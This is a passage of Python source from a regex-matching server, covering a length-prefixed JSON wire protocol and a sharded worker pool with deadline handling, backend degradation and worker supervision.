    "ArtifactStore",
    "ruleset_key",
    "ClientResult",
    "MatchClient",
    "FrameError",
    "MatchRequest",
    "MAX_FRAME_BYTES",
    "STATUS_CODES",
    "AdmissionController",
    "DedupWindow",
    "RetryPolicy",
    "ShardSupervisor",
    "MatchServer",
    "MatchService",
    "ServeConfig",
    "ServerThread",
    "ShardJob",
    "ShardPool",
    "ShardScanResult",
    "plan_shards",
    "rebase_matches",
]
