"""The serve wire protocol: length-prefixed JSON frames.

One frame is a 4-byte big-endian payload length followed by that many
bytes of UTF-8 JSON.  Length-prefixing keeps framing trivial for both
asyncio streams and blocking sockets, JSON keeps the protocol inspectable
with ``nc`` + a JSON pretty-printer; binary payloads travel base64-coded
inside the document.  A frame-size ceiling bounds what one client can
make the server buffer.

Requests
========

``{"id": 7, "op": "match", "payload": "<base64>", ...}``

========== ============================================================
op         semantics
========== ============================================================
``match``  scan the payload; optional ``single_match`` (bool),
           ``deadline_ms`` (per-request wall-clock budget) and
           ``request_key`` (a client-minted idempotency token: a retry
           of a request that already completed is answered from the
           server's dedup window instead of rescanned)
``ping``   liveness probe; echoes ``id``
``stats``  service counters snapshot (queue depth, shards, backend, …)
``health`` readiness/liveness probe: ``healthy``/``ready`` booleans
           plus per-subsystem ``checks``; answers 200 when ready to
           serve, 503 (``unavailable``) while draining or while the
           worker circuit breaker is open
``reload`` compile/load a new ruleset (``patterns``: list of ERE
           strings) in the background and atomically swap the shard
           pool — in-flight and queued requests finish on the old
           engines, later ones use the new (when enabled)
``shutdown`` drain and stop the server (when enabled)
========== ============================================================

Responses
=========

``{"id": 7, "status": "ok", "code": 200, "matches": [[rule, end], …]}``

HTTP-flavoured codes so operators can reuse their intuition: 200 ok,
206 partial result (deadline hit — the returned matches are the honest
prefix), 400 malformed request, 429 rejected (bounded queue full,
admission control shed the request, or the server is shutting down —
these carry a ``retry_after_ms`` backoff hint), 500 internal error,
503 not ready (health probe only).  A response always echoes the
request ``id`` — batching may complete requests out of order.

Rules that match at *every* offset (ε-accepting, e.g. ``a*``) are not
enumerated in ``matches`` — one such rule on a large payload would
inflate the response past ``MAX_FRAME_BYTES``.  They arrive as
``"all_offsets_rules": [rule, …]`` and the client expands them against
the payload length it already knows.
"""

from __future__ import annotations

import base64
import json
import socket
import struct
from dataclasses import dataclass, field
from typing import Any, Optional

from repro.guard.errors import ConnectionLost, FormatError

__all__ = [
    "MAX_FRAME_BYTES",
    "STATUS_CODES",
    "FrameError",
    "MatchRequest",
    "encode_frame",
    "decode_body",
    "encode_payload",
    "decode_payload",
    "recv_frame",
    "send_frame",
    "match_response",
    "error_response",
]

#: Frame-size ceiling (length prefix values above this are refused).
MAX_FRAME_BYTES = 64 * 1024 * 1024

_LENGTH = struct.Struct(">I")

#: status string → HTTP-flavoured numeric code
STATUS_CODES = {
    "ok": 200,
    "partial": 206,
    "bad-request": 400,
    "rejected": 429,
    "error": 500,
    "unavailable": 503,
}


class FrameError(FormatError, ValueError):
    """Malformed frame or protocol document."""

    default_stage = "serve-protocol"


# ---------------------------------------------------------------------------
# Frame encoding (transport-independent)
# ---------------------------------------------------------------------------


def encode_frame(document: dict[str, Any]) -> bytes:
    """One wire frame: length prefix + JSON body."""
    body = json.dumps(document, separators=(",", ":")).encode()
    if len(body) > MAX_FRAME_BYTES:
        raise FrameError(f"frame of {len(body)} bytes exceeds ceiling {MAX_FRAME_BYTES}")
    return _LENGTH.pack(len(body)) + body


def decode_body(body: bytes) -> dict[str, Any]:
    """Parse one frame body (the bytes after the length prefix)."""
    try:
        document = json.loads(body)
    except (json.JSONDecodeError, UnicodeDecodeError) as exc:
        raise FrameError(f"frame body is not valid JSON: {exc}") from exc
    if not isinstance(document, dict):
        raise FrameError("frame body must be a JSON object")
    return document


def frame_length(prefix: bytes) -> int:
    """Validate and decode the 4-byte length prefix."""
    (length,) = _LENGTH.unpack(prefix)
    if length > MAX_FRAME_BYTES:
        raise FrameError(f"declared frame of {length} bytes exceeds ceiling {MAX_FRAME_BYTES}")
    return length


def encode_payload(payload: bytes) -> str:
    return base64.b64encode(payload).decode("ascii")


def decode_payload(text: str) -> bytes:
    try:
        return base64.b64decode(text.encode("ascii"), validate=True)
    except (ValueError, UnicodeEncodeError) as exc:
        raise FrameError(f"payload is not valid base64: {exc}") from exc


# ---------------------------------------------------------------------------
# Blocking-socket helpers (the sync client side)
# ---------------------------------------------------------------------------


def send_frame(sock: socket.socket, document: dict[str, Any]) -> None:
    sock.sendall(encode_frame(document))


def _recv_exact(sock: socket.socket, count: int) -> bytes:
    chunks = []
    remaining = count
    while remaining:
        chunk = sock.recv(remaining)
        if not chunk:
            # typed, retryable: the peer closed (or truncated a frame)
            # mid-read — the stream position is gone, only a reconnect
            # can recover (see RetryPolicy)
            raise ConnectionLost(
                f"connection closed mid-frame ({count - remaining} of {count} bytes read)"
            )
        chunks.append(chunk)
        remaining -= len(chunk)
    return b"".join(chunks)


def recv_frame(sock: socket.socket) -> dict[str, Any]:
    """Read one complete frame from a blocking socket."""
    length = frame_length(_recv_exact(sock, _LENGTH.size))
    return decode_body(_recv_exact(sock, length))


# ---------------------------------------------------------------------------
# Request / response shapes
# ---------------------------------------------------------------------------


@dataclass
class MatchRequest:
    """A validated ``match`` request as the service consumes it."""

    id: int
    payload: bytes
    single_match: bool = False
    deadline_ms: Optional[float] = None
    #: request correlation id for cross-process tracing (client-minted;
    #: rides the wire so server-side spans share the client's trace)
    trace_id: Optional[str] = None
    #: when true (and the server traces requests), the response carries
    #: the server-side span rows for this request under ``"spans"``
    ship_spans: bool = False
    #: client-minted idempotency token, stable across retries of one
    #: logical request (each retry still mints a fresh ``id``); lets the
    #: server replay a completed answer from its dedup window
    request_key: Optional[str] = None
    meta: dict[str, Any] = field(default_factory=dict)

    @classmethod
    def from_document(cls, document: dict[str, Any]) -> "MatchRequest":
        request_id = document.get("id")
        if not isinstance(request_id, int):
            raise FrameError("request 'id' must be an integer")
        payload = decode_payload(document.get("payload", ""))
        single_match = bool(document.get("single_match", False))
        deadline_ms = document.get("deadline_ms")
        if deadline_ms is not None:
            try:
                deadline_ms = float(deadline_ms)
            except (TypeError, ValueError) as exc:
                raise FrameError("'deadline_ms' must be a number") from exc
            if deadline_ms <= 0:
                raise FrameError("'deadline_ms' must be positive")
        trace_id = document.get("trace_id")
        if trace_id is not None:
            if not isinstance(trace_id, str) or not trace_id or len(trace_id) > 64:
                raise FrameError("'trace_id' must be a non-empty string (<= 64 chars)")
        request_key = document.get("request_key")
        if request_key is not None:
            if (
                not isinstance(request_key, str)
                or not request_key
                or len(request_key) > 128
            ):
                raise FrameError(
                    "'request_key' must be a non-empty string (<= 128 chars)"
                )
        return cls(
            id=request_id,
            payload=payload,
            single_match=single_match,
            deadline_ms=deadline_ms,
            trace_id=trace_id,
            ship_spans=bool(document.get("ship_spans", False)),
            request_key=request_key,
        )


def match_response(
    request_id: int,
    status: str,
    matches: Optional[set[tuple[int, int]]] = None,
    stats: Optional[dict[str, Any]] = None,
    **extra: Any,
) -> dict[str, Any]:
    """A response document for one match request."""
    document: dict[str, Any] = {
        "id": request_id,
        "status": status,
        "code": STATUS_CODES[status],
    }
    if matches is not None:
        document["matches"] = sorted([rule, end] for rule, end in matches)
    if stats is not None:
        document["stats"] = stats
    document.update(extra)
    return document


def error_response(request_id: Optional[int], status: str, message: str) -> dict[str, Any]:
    return {
        "id": request_id,
        "status": status,
        "code": STATUS_CODES[status],
        "error": message,
    }
