"""The shard pool: one payload, many workers, exact stitching.

Figs. 9–10 parallelise across automata; :mod:`repro.engine.chunkscan`
parallelises one automaton across stream chunks.  The serve layer needs
the chunk axis as a *resident* facility — workers that outlive requests,
own their engines, and scan whatever payload slice the planner hands
them — so this module lifts chunkscan's overlap/stitch semantics into a
:class:`ShardPool`:

* **Planning** — :func:`plan_shards` splits ``[0, n)`` into per-worker
  jobs ``(start, lead, stop)`` where ``lead ≤ overlap`` bytes of left
  context are prepended.  Any match of width ≤ overlap that crosses a
  boundary lies entirely inside some job's segment, so scanning jobs
  independently loses nothing (property-tested against single-pass).
* **Stitching** — :func:`rebase_matches` re-bases a job's match offsets
  to absolute positions and drops matches ending inside the lead (the
  previous shard's responsibility), exactly as chunkscan does.
* **Workers** — each pool worker owns :meth:`IMfantEngine.fork` clones
  of the template engines (shared immutable tables, private lazy
  caches).  ``mode="thread"`` keeps workers in-process;
  ``mode="process"`` runs them in forked worker processes that *load*
  the compiled artifact from the :class:`~repro.serve.artifacts.
  ArtifactStore` instead of recompiling.
* **Degradation** — an :class:`~repro.guard.errors.AllocationFailed`
  while building worker engines steps the pool down the
  :data:`~repro.guard.degrade.BACKEND_LADDER` (dense → lazy → numpy → python)
  and retries, mirroring :class:`~repro.guard.degrade.GuardedMatcher`;
  every step increments ``guard_degradations_total``.
* **Supervision** — a dead worker process (OOM-kill, segfault, drill)
  is restarted at the *same* backend under the pool's :class:`~repro.
  serve.resilience.ShardSupervisor` (exponential backoff; a restart
  storm opens a circuit breaker and scans run inline on the dispatcher
  until the cooldown passes); a worker wedged past **twice** the scan
  deadline is hard-killed by a per-scan watchdog and its jobs re-scanned
  inline — exactly, because a job's SFA mapping (or overlap segment)
  recomputes identically wherever it runs.
* **Deadlines** — the scan's absolute expiry travels with every job and
  each job recomputes its *remaining* wall clock when it actually starts
  on a worker, so time spent queued behind other jobs still counts; a
  job that blows it returns the honest partial result carried by
  :class:`~repro.guard.errors.ScanDeadlineExceeded` and the pool marks
  the scan ``partial`` instead of hanging or discarding the other
  shards' work.
* **ε-rules stay compact** — a rule accepting the empty string matches
  at every offset ``0..len(payload)``; enumerating those tuples scales
  with the payload (a remotely-triggerable memory blow-up at service
  scale), so the pool strips them from the enumerated set and reports
  the rule ids in ``all_offsets_rules`` instead.  Callers that want the
  materialized set use :meth:`ShardScanResult.full_matches`.

Overlap planning requires a bounded match width.  A ruleset with an
unbounded width (``.*`` …) has no finite sound overlap — historically
the pool ran those scans as one *sequential* job.  The pool now carries
a second strategy, ``scan_strategy="sfa"`` (:mod:`repro.engine.sfa`):
each worker computes its slice's :class:`~repro.engine.sfa.ChunkMapping`
— a simultaneous run from every possible entry activation — with **zero
lead bytes**, workers complete in any order, and the dispatcher reduce
threads exit activations through the mappings in O(shards × state
width).  ``scan_strategy="auto"`` keeps the overlap fast path (each
slice runs the fastest byte engine) for bounded rulesets and goes
mapping-parallel exactly where overlap planning used to degrade to
sequential.  A shard blowing its deadline under the mapping strategy
still contributes its honest partial: the salvaged matches are the
mapping's *const* part — genuine matches whatever the lost entry
activation — and the reduce continues from the empty activation (a
sound under-approximation, the step function being monotone).
"""

from __future__ import annotations

import os
import time
from concurrent.futures import (
    CancelledError,
    Executor,
    ProcessPoolExecutor,
    ThreadPoolExecutor,
)
from concurrent.futures import TimeoutError as FuturesTimeout
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass, field
from pathlib import Path
from threading import Lock, local
from typing import Optional, Sequence

import repro.obs as obs
from repro.engine.counters import ExecutionStats
from repro.engine.imfant import DEFAULT_DEADLINE_STRIDE, IMfantEngine
from repro.engine.lazy import DEFAULT_CACHE_SIZE
from repro.engine.chunkscan import SCAN_STRATEGIES, ruleset_max_width
from repro.engine.sfa import ChunkMapping, SfaScanner
from repro.guard import faultinject
from repro.guard.degrade import BACKEND_LADDER, DegradationStep, alloc_degrade_reason
from repro.guard.errors import (
    AllocationFailed,
    ReproError,
    ScanDeadlineExceeded,
    UsageError,
)
from repro.mfsa.model import Mfsa
from repro.serve.artifacts import Artifact
from repro.serve.resilience import ShardSupervisor

__all__ = ["ShardJob", "ShardScanResult", "ShardPool", "plan_shards", "rebase_matches"]

#: a hung-worker watchdog never fires earlier than this past the deadline
_WATCHDOG_MIN_GRACE = 0.05


@dataclass(frozen=True)
class ShardJob:
    """One worker's slice: scan ``payload[start - lead : stop]``."""

    start: int
    lead: int
    stop: int

    @property
    def segment_slice(self) -> slice:
        return slice(self.start - self.lead, self.stop)


def plan_shards(payload_len: int, num_shards: int, overlap: int) -> list[ShardJob]:
    """Split ``[0, payload_len)`` into ≤ ``num_shards`` overlapping jobs.

    Shards are contiguous, near-equal ranges; each (except the first)
    carries ``min(overlap, start)`` bytes of left context.  Shard sizes
    below the overlap would re-scan more than they advance, so the
    planner lowers the shard count until every shard makes progress.
    """
    if num_shards < 1:
        raise UsageError(f"num_shards must be >= 1 (got {num_shards})")
    if payload_len <= 0:
        return [ShardJob(0, 0, payload_len)] if payload_len == 0 else []
    # every shard must advance past its own lead
    effective = min(num_shards, max(1, payload_len // max(1, overlap + 1)))
    base, remainder = divmod(payload_len, effective)
    jobs: list[ShardJob] = []
    start = 0
    for index in range(effective):
        size = base + (1 if index < remainder else 0)
        stop = start + size
        jobs.append(ShardJob(start=start, lead=min(overlap, start), stop=stop))
        start = stop
    return jobs


def rebase_matches(
    matches: Sequence[tuple[int, int]], job: ShardJob
) -> set[tuple[int, int]]:
    """Job-relative match ends → absolute ends, lead-claimed ones dropped.

    A match ending inside the lead belongs to the previous shard (it was
    found there in full); keeping the first shard's ``end >= 0`` matches
    preserves offset-0 empty-width matches, as in chunkscan.
    """
    base = job.start - job.lead
    return {
        (rule, end + base)
        for rule, end in matches
        if end > job.lead or (job.start == 0 and end >= 0)
    }


@dataclass
class ShardScanResult:
    """One pool scan: stitched matches plus execution provenance."""

    matches: set[tuple[int, int]]
    stats: ExecutionStats
    #: backend that executed the scan (after any degradation)
    backend: str
    #: jobs the planner produced for this payload
    shards: int
    #: payload size; the offset range of ``all_offsets_rules``
    payload_len: int = 0
    #: rules that match at *every* offset ``0..payload_len`` (ε-accepting),
    #: kept out of ``matches`` so the result stays payload-size-bounded
    all_offsets_rules: list[int] = field(default_factory=list)
    #: True when at least one shard hit its deadline — ``matches`` is
    #: then the honest union of completed work, not the full answer
    partial: bool = False
    #: indices of the jobs that timed out
    timed_out_shards: list[int] = field(default_factory=list)
    #: ladder steps taken over the pool's lifetime
    degradations: list[DegradationStep] = field(default_factory=list)
    #: parallelism contract that produced this result ("overlap" | "sfa")
    strategy: str = "overlap"

    def full_matches(self) -> set[tuple[int, int]]:
        """The materialized match set, ``all_offsets_rules`` expanded.

        Equal to a single-pass engine scan; for large payloads with
        ε-accepting rules this allocates ``payload_len + 1`` tuples per
        such rule — the blow-up the compact form exists to avoid.
        """
        out = set(self.matches)
        for rule in self.all_offsets_rules:
            out.update((rule, end) for end in range(self.payload_len + 1))
        return out


# ---------------------------------------------------------------------------
# Process-mode worker half (module-level: must be picklable by reference)
# ---------------------------------------------------------------------------

_PROCESS_STATE: dict = {}


def _process_init(artifact_path: str, backend: str, lazy_cache_size: int,
                  lazy_eviction: str, deadline_stride: int,
                  strategy: str = "overlap") -> None:
    """Worker-process initializer: *load* the artifact, never recompile."""
    import json

    from repro.mfsa.serialize import mfsa_from_dict

    data = json.loads(Path(artifact_path).read_text())
    mfsas = [mfsa_from_dict(doc) for doc in data["mfsas"]]
    if strategy == "sfa":
        # mapping workers run the dedicated simultaneous-run interpreter;
        # no byte engines (and no lazy caches) are needed
        _PROCESS_STATE["scanners"] = _build_scanners(mfsas, deadline_stride)
    else:
        _PROCESS_STATE["engines"] = _build_engines(
            mfsas, backend, lazy_cache_size, lazy_eviction, deadline_stride
        )


def _process_scan(args: tuple) -> tuple[set, ExecutionStats, bool, list]:
    """Scan one segment in a worker process.

    The parent's tracer lives in another address space, so when the job
    carries a ``trace`` request the worker records its span into a
    throwaway local tracer and ships the exported rows (absolute
    ``perf_counter`` times — CLOCK_MONOTONIC, shared machine-wide) back
    with the result for the parent to adopt.
    """
    segment, deadline_at, collect_stats, shard_index, trace = args
    faultinject.fire("serve.worker.kill")
    faultinject.fire("serve.worker.hang")
    if trace is None:
        matches, stats, timed_out = _scan_segment(
            _PROCESS_STATE["engines"], segment, deadline_at, collect_stats
        )
        return matches, stats, timed_out, []
    from repro.obs.spans import Tracer

    tracer = Tracer("repro-shard-worker")
    started = time.perf_counter()
    matches, stats, timed_out = _scan_segment(
        _PROCESS_STATE["engines"], segment, deadline_at, collect_stats
    )
    tracer.record_span(
        "serve.worker_scan",
        started,
        time.perf_counter(),
        trace_id=trace.get("trace_id"),
        shard=shard_index,
        bytes=len(segment),
        timed_out=timed_out,
    )
    return matches, stats, timed_out, tracer.export_spans()


def _process_scan_mapping(args: tuple) -> tuple[tuple, ExecutionStats, bool, list]:
    """Mapping-strategy sibling of :func:`_process_scan`: compute the
    segment's per-MFSA :class:`ChunkMapping`\\ s in a worker process.
    Mappings are pure data and pickle home; the parent re-attaches them
    to its own scanners (signature-checked)."""
    segment, deadline_at, collect_stats, shard_index, trace = args
    faultinject.fire("serve.worker.kill")
    faultinject.fire("serve.worker.hang")
    if trace is None:
        payload, stats, timed_out = _scan_segment_mappings(
            _PROCESS_STATE["scanners"], segment, deadline_at, collect_stats
        )
        return payload, stats, timed_out, []
    from repro.obs.spans import Tracer

    tracer = Tracer("repro-shard-worker")
    started = time.perf_counter()
    payload, stats, timed_out = _scan_segment_mappings(
        _PROCESS_STATE["scanners"], segment, deadline_at, collect_stats
    )
    tracer.record_span(
        "serve.worker_scan",
        started,
        time.perf_counter(),
        trace_id=trace.get("trace_id"),
        shard=shard_index,
        bytes=len(segment),
        timed_out=timed_out,
    )
    return payload, stats, timed_out, tracer.export_spans()


def _worker_heartbeat() -> int:
    """Trivial supervision probe: proves a worker slot can still accept
    and answer a job.  Returns the worker's pid (the parent logs nothing
    but the roundtrip; the pid makes drill debugging less blind)."""
    return os.getpid()


def _build_scanners(
    mfsas: Sequence[Mfsa],
    deadline_stride: int = DEFAULT_DEADLINE_STRIDE,
) -> list[SfaScanner]:
    return [
        SfaScanner(mfsa, deadline_stride=deadline_stride) for mfsa in mfsas
    ]


def _scan_segment_mappings(
    scanners: Sequence[SfaScanner],
    segment: bytes,
    deadline_at: Optional[float],
    collect_stats: bool,
) -> tuple[tuple[list[Optional[ChunkMapping]], set], ExecutionStats, bool]:
    """Compute one segment's mapping per MFSA; deadline-honest.

    Returns ``((mappings, salvage), stats, timed_out)``.  On a blown
    deadline the affected (and any remaining) mappings are ``None`` and
    ``salvage`` holds the segment-relative *const* matches accumulated
    before the abort — genuine matches of the scanned prefix regardless
    of the true entry activation, so the caller can still report them.
    """
    mappings: list[Optional[ChunkMapping]] = []
    salvage: set[tuple[int, int]] = set()
    totals = ExecutionStats()
    timed_out = False
    for scanner in scanners:
        if timed_out:
            mappings.append(None)
            continue
        try:
            scan = scanner.scan_chunk(
                segment, collect_stats=collect_stats, deadline_at=deadline_at
            )
        except ScanDeadlineExceeded as exc:
            timed_out = True
            mappings.append(None)
            if exc.partial is not None:
                salvage |= exc.partial.matches
                totals.merge(exc.partial.stats)
            continue
        mappings.append(scan.mapping)
        totals.merge(scan.stats)
    return (mappings, salvage), totals, timed_out


def _build_engines(
    mfsas: Sequence[Mfsa],
    backend: str,
    lazy_cache_size: int,
    lazy_eviction: str,
    deadline_stride: int = DEFAULT_DEADLINE_STRIDE,
) -> list[IMfantEngine]:
    return [
        IMfantEngine(
            mfsa,
            backend=backend,
            lazy_cache_size=lazy_cache_size,
            lazy_eviction=lazy_eviction,
            deadline_stride=deadline_stride,
        )
        for mfsa in mfsas
    ]


def _scan_segment(
    engines: Sequence[IMfantEngine],
    segment: bytes,
    deadline_at: Optional[float],
    collect_stats: bool,
) -> tuple[set, ExecutionStats, bool]:
    """Scan one segment with every engine; returns (matches, stats, timed_out).

    ``deadline_at`` is the scan's *absolute* expiry on the
    ``time.perf_counter`` clock — CLOCK_MONOTONIC on Linux, shared
    across forked worker processes — so a job that sat in the executor
    queue gets only what is genuinely left, not its full budget again.
    The remaining time is recomputed before every engine; a blown
    deadline yields the partial result the engine finalized, never a
    hang.
    """
    matches: set[tuple[int, int]] = set()
    totals = ExecutionStats()
    timed_out = False
    for engine in engines:
        if deadline_at is None:
            engine.scan_deadline = None
        else:
            remaining = deadline_at - time.perf_counter()
            engine.scan_deadline = remaining if remaining > 0 else 1e-9
        try:
            result = engine.run(segment, collect_stats=collect_stats)
        except ScanDeadlineExceeded as exc:
            result = exc.partial
            timed_out = True
        matches |= result.matches
        totals.merge(result.stats)
        if timed_out:
            break
    return matches, totals, timed_out


class ShardPool:
    """Resident pool of matching workers over one compiled artifact."""

    def __init__(
        self,
        artifact: Artifact,
        num_shards: int = 2,
        backend: str = "lazy",
        mode: str = "thread",
        lazy_cache_size: int = DEFAULT_CACHE_SIZE,
        lazy_eviction: str = "flush",
        deadline_stride: int = DEFAULT_DEADLINE_STRIDE,
        overlap: Optional[int] = "auto",  # type: ignore[assignment]
        scan_strategy: str = "auto",
        supervisor: Optional[ShardSupervisor] = None,
    ) -> None:
        if num_shards < 1:
            raise UsageError(f"num_shards must be >= 1 (got {num_shards})")
        if mode not in ("thread", "process"):
            raise UsageError(f"unknown shard mode {mode!r}; choose thread or process")
        if backend not in BACKEND_LADDER and backend != "counting":
            raise UsageError(
                f"unknown backend {backend!r}; choose from "
                f"{BACKEND_LADDER + ('counting',)}"
            )
        if mode == "process" and artifact.path is None:
            raise UsageError("process-mode shards need an on-disk artifact to load")
        if scan_strategy not in SCAN_STRATEGIES:
            raise UsageError(
                f"unknown scan strategy {scan_strategy!r} "
                f"(choose from {SCAN_STRATEGIES})"
            )
        has_registers = any(getattr(m, "counting", ()) for m in artifact.mfsas)
        if scan_strategy == "sfa" and has_registers:
            raise UsageError(
                "the 'sfa' strategy cannot scan counter registers; counting "
                "artifacts shard by bounded overlap (unbounded repeats serve "
                "sequentially)"
            )
        self.artifact = artifact
        self.num_shards = num_shards
        self.backend = backend
        self.mode = mode
        self.lazy_cache_size = lazy_cache_size
        self.lazy_eviction = lazy_eviction
        self.deadline_stride = deadline_stride
        #: max match width over the ruleset; None = unbounded
        self.overlap: Optional[int] = (
            ruleset_max_width(artifact.patterns) if overlap == "auto" else overlap
        )
        #: resolved parallelism contract: overlap fast path when the
        #: width is bounded, zero-lead mapping scan when it is not (the
        #: case overlap planning used to serve sequentially).  Counting
        #: artifacts never take the mapping path — with an unbounded
        #: repeat they fall through to the overlap strategy's sequential
        #: single-job plan (``self.overlap is None``).
        self.scan_strategy: str = (
            scan_strategy
            if scan_strategy != "auto"
            else ("overlap" if self.overlap is not None or has_registers else "sfa")
        )
        self.degradations: list[DegradationStep] = []
        self._scanners: Optional[list[SfaScanner]] = None
        self._lock = Lock()
        self._local = local()
        self._generation = 0  # bumped on degradation; invalidates worker forks
        self._templates: Optional[list[IMfantEngine]] = None
        self._executor: Optional[Executor] = None
        self._empty_matching_rules = self._find_empty_matching_rules(artifact.mfsas)
        #: restart/backoff/breaker bookkeeping for worker failures
        self.supervisor = supervisor if supervisor is not None else ShardSupervisor()
        #: outcome of the most recent :meth:`heartbeat` (None = never ran)
        self.last_heartbeat_ok: Optional[bool] = None
        # hot reload holds retired pools open until in-flight scans drain
        self._refs = 0
        self._retired = False

    @staticmethod
    def _find_empty_matching_rules(mfsas: Sequence[Mfsa]) -> list[int]:
        rules = []
        for mfsa in mfsas:
            for rule, q0 in mfsa.initials.items():
                if q0 in mfsa.finals[rule]:
                    rules.append(rule)
        return rules

    # -- worker/executor management ---------------------------------------

    def _ensure_executor(self) -> Executor:
        if self._executor is None:
            if self.mode == "thread":
                self._executor = ThreadPoolExecutor(
                    max_workers=self.num_shards, thread_name_prefix="repro-shard"
                )
            else:
                self._executor = ProcessPoolExecutor(
                    max_workers=self.num_shards,
                    initializer=_process_init,
                    initargs=(
                        str(self.artifact.path),
                        self.backend,
                        self.lazy_cache_size,
                        self.lazy_eviction,
                        self.deadline_stride,
                        self.scan_strategy,
                    ),
                )
        return self._executor

    def _ensure_scanners(self) -> list[SfaScanner]:
        """The pool's simultaneous-run scanners (one per MFSA) — built
        once, immutable, safely shared by every worker thread and used
        by the dispatcher reduce to attach/apply process-mode mappings."""
        with self._lock:
            if self._scanners is None:
                self._scanners = _build_scanners(
                    self.artifact.mfsas, self.deadline_stride
                )
            return self._scanners

    def _degrade(self, reason: str) -> bool:
        """Step the whole pool down one backend (see GuardedMatcher)."""
        with self._lock:
            if self.backend == "counting":
                # registers gone → the expanded automaton under lazy
                # (the same special case GuardedMatcher takes)
                to_backend = "lazy"
            else:
                position = BACKEND_LADDER.index(self.backend)
                if position + 1 >= len(BACKEND_LADDER):
                    return False
                to_backend = BACKEND_LADDER[position + 1]
            step = DegradationStep(
                from_backend=self.backend,
                to_backend=to_backend,
                reason=reason,
            )
            self.backend = step.to_backend
            self.degradations.append(step)
            self._templates = None
            self._generation += 1
            if self.mode == "process" and self._executor is not None:
                # process workers bake the backend into their initializer
                self._executor.shutdown(wait=True)
                self._executor = None
        registry = obs.get_registry()
        if registry is not None:
            registry.counter(
                "guard_degradations_total",
                help="backend degradation steps taken by guarded matchers",
            ).inc()
        return True

    def _ensure_templates(self) -> list[IMfantEngine]:
        while True:
            with self._lock:
                if self._templates is not None:
                    return self._templates
                try:
                    self._templates = _build_engines(
                        self.artifact.mfsas, self.backend,
                        self.lazy_cache_size, self.lazy_eviction,
                        self.deadline_stride,
                    )
                    return self._templates
                except AllocationFailed as exc:
                    failure = exc
            if not self._degrade(alloc_degrade_reason(failure)):
                raise failure

    def _worker_engines(self) -> list[IMfantEngine]:
        """This worker thread's private engine forks (rebuilt after any
        degradation — the generation stamp invalidates stale forks)."""
        templates = self._ensure_templates()
        state = self._local
        if getattr(state, "generation", None) != self._generation:
            while True:
                try:
                    state.engines = [template.fork() for template in templates]
                    break
                except AllocationFailed as exc:
                    if not self._degrade(alloc_degrade_reason(exc)):
                        raise
                    templates = self._ensure_templates()
            state.generation = self._generation
        return state.engines

    def _thread_scan(
        self,
        segment: bytes,
        deadline_at: Optional[float],
        collect_stats: bool,
        shard_index: int,
        trace_id: Optional[str],
        parent: Optional[obs.Span],
    ) -> tuple[set, ExecutionStats, bool, list]:
        faultinject.fire("serve.worker.hang")
        with obs.span(
            "serve.worker_scan",
            parent=parent,
            trace_id=trace_id,
            shard=shard_index,
            bytes=len(segment),
        ) as span:
            matches, stats, timed_out = _scan_segment(
                self._worker_engines(), segment, deadline_at, collect_stats
            )
            span.set(timed_out=timed_out)
        return matches, stats, timed_out, []

    def _thread_scan_mapping(
        self,
        segment: bytes,
        deadline_at: Optional[float],
        collect_stats: bool,
        shard_index: int,
        trace_id: Optional[str],
        parent: Optional[obs.Span],
    ) -> tuple[tuple, ExecutionStats, bool, list]:
        faultinject.fire("serve.worker.hang")
        with obs.span(
            "serve.worker_scan",
            parent=parent,
            trace_id=trace_id,
            shard=shard_index,
            bytes=len(segment),
        ) as span:
            payload, stats, timed_out = _scan_segment_mappings(
                self._ensure_scanners(), segment, deadline_at, collect_stats
            )
            span.set(timed_out=timed_out)
        return payload, stats, timed_out, []

    def _recover_workers(self, failure: BaseException) -> bool:
        """Replace dead process workers and step the ladder; False when
        the ladder is exhausted (the caller re-raises).

        Process-mode engine builds happen in ``_process_init``, so an
        AllocationFailed there surfaces here as BrokenProcessPool — the
        only place the process path can join the degradation ladder.
        """
        if self.mode == "process":
            with self._lock:
                if self._executor is not None:
                    self._executor.shutdown(wait=True)
                    self._executor = None
        return self._degrade(f"worker-failure: {failure}")

    # -- supervision -------------------------------------------------------

    def _count(self, name: str, help: str) -> None:
        registry = obs.get_registry()
        if registry is not None:
            registry.counter(name, help=help).inc()

    def _rebuild_executor(self) -> None:
        """Drop the (broken) executor so the next use forks fresh workers
        at the *same* backend — the supervisor's restart, as opposed to
        :meth:`_recover_workers`, which is a ladder step."""
        with self._lock:
            executor, self._executor = self._executor, None
        if executor is not None:
            executor.shutdown(wait=False, cancel_futures=True)

    def _kill_stuck_workers(self) -> None:
        """The watchdog's hammer: hard-kill wedged process workers and
        drop the executor (lazily rebuilt on next use).  Thread workers
        cannot be killed — their executor is abandoned instead and the
        stuck threads finish whenever the wedge clears."""
        with self._lock:
            executor, self._executor = self._executor, None
        if executor is None:
            return
        if self.mode == "process":
            for process in list(getattr(executor, "_processes", {}).values()):
                try:
                    process.kill()
                except Exception:
                    pass
        executor.shutdown(wait=False, cancel_futures=True)

    def _rescue_job(
        self,
        job: ShardJob,
        data: bytes,
        deadline: Optional[float],
        collect_stats: bool,
        mapping_mode: bool,
    ) -> tuple:
        """Re-scan one job inline on the dispatcher thread — the exact
        fallback when the job's worker died or wedged.  Mapping-strategy
        jobs recompute the slice's :class:`ChunkMapping` (the monoid
        composes identically whoever computed it); overlap jobs re-run
        the byte engines.  The rescue gets a fresh copy of the relative
        deadline: the original budget died with the worker, and an honest
        partial beats an empty answer."""
        segment = data[job.segment_slice]
        deadline_at = (
            time.perf_counter() + deadline if deadline is not None else None
        )
        if mapping_mode:
            payload, stats, timed_out = _scan_segment_mappings(
                self._ensure_scanners(), segment, deadline_at, collect_stats
            )
        else:
            payload, stats, timed_out = _scan_segment(
                self._worker_engines(), segment, deadline_at, collect_stats
            )
        self._count(
            "serve_rescued_jobs_total",
            "shard jobs re-scanned inline after a worker death or hang",
        )
        return payload, stats, timed_out, []

    def _collect_outcomes(
        self,
        futures: list,
        jobs: Sequence[ShardJob],
        data: bytes,
        deadline: Optional[float],
        deadline_at: Optional[float],
        collect_stats: bool,
        mapping_mode: bool,
    ) -> tuple[list, Optional[BaseException]]:
        """Gather every shard job, under a hung-worker watchdog whenever
        the scan has a deadline.

        A worker that merely blows the *engine* deadline returns an
        honest partial (the engines self-abort), so a future still
        pending at ``deadline_at + deadline`` — twice the budget — is
        wedged in a way the deadline machinery cannot see (a faulted
        sleep, a pathological syscall).  The watchdog kills the stuck
        workers once, then re-scans the affected jobs inline; jobs that
        were queued behind the wedge (cancelled or orphaned by the kill)
        are rescued the same way.

